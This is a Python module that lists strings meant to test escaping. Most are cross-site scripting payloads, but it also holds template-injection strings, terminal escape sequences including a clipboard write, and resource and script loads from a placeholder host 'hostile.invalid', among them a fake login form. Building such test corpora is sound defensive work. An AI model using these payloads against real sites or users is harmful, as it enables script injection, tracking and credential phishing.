"""Texts that are active if put unescaped into a page, a terminal, a formula or a template."""

import re

__all__ = ["CONTROLS", "FETCHED", "HOSTILE"]

CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
FETCHED = "http://hostile.invalid"  # a host that does not exist; requests to it can be detected

HOSTILE = [
    # scripts
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://hostile.invalid/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>import 'http://hostile.invalid/m.js'</script>",
    "</script><script>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    # handlers
    "<img src=x onerror=alert(1)>",
    "<img src='x'\nonerror='alert(1)'>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    # fetched resources
    f"<img src={FETCHED}/pixel.png>",
    f"<link rel=stylesheet href={FETCHED}/a.css>",
    f"<style>@import '{FETCHED}/b.css';</style>",
    f"<div style=\"background:url('{FETCHED}/c.png')\">",
    f"<iframe src={FETCHED}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={FETCHED}/o.svg></object>",
    f"<embed src={FETCHED}/e.svg>",
    f"<base href={FETCHED}/>",
    f"<meta http-equiv=refresh content='0;url={FETCHED}'>",
    f"<form action={FETCHED}><button>Log in</button></form>",
    f"<svg><image href={FETCHED}/i.png /></svg>",
    f"<video poster={FETCHED}/p.png></video>",
    # Markdown, which a front end may render
    f"![pixel]({FETCHED}/md.png)",
    "[click](javascript:alert(1))",
    f"<{FETCHED}/auto>",
    "`<img src=x onerror=alert(1)>`",
    # links
    "<a href=javascript:alert(1)>click</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>click</a>",
    "<math><maction xlink:href=javascript:alert(1)>x</maction></math>",
    # ends or beginnings of a context
    "</div></div></td></tr></table><h1>Outside</h1>",
    "</textarea><img src=x onerror=alert(1)>",
    "</title></style></pre><img src=x onerror=alert(1)>",
    "<!-- ",
    "--><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<plaintext>",
    # entities
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # formulas and templates
    "It costs $5 here and $6 there.",
    r"$\href{javascript:alert(1)}{click}$",
    r"\(\style{background:url(http://hostile.invalid/t.png)}{x}\)",
    "$$\\begin{array}{c}x\\end{array}$$",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %>",
    # terminals
    "\x1b[2J\x1b[H\x1b]0;title\x07\x1b]52;c;aGk=\x07",
    "shown\rhidden\x08\x08\x9b2K\x7f",
    # consoles with markup of their own
    "[bold red]red[/] [link=http://hostile.invalid]x[/link]",
]
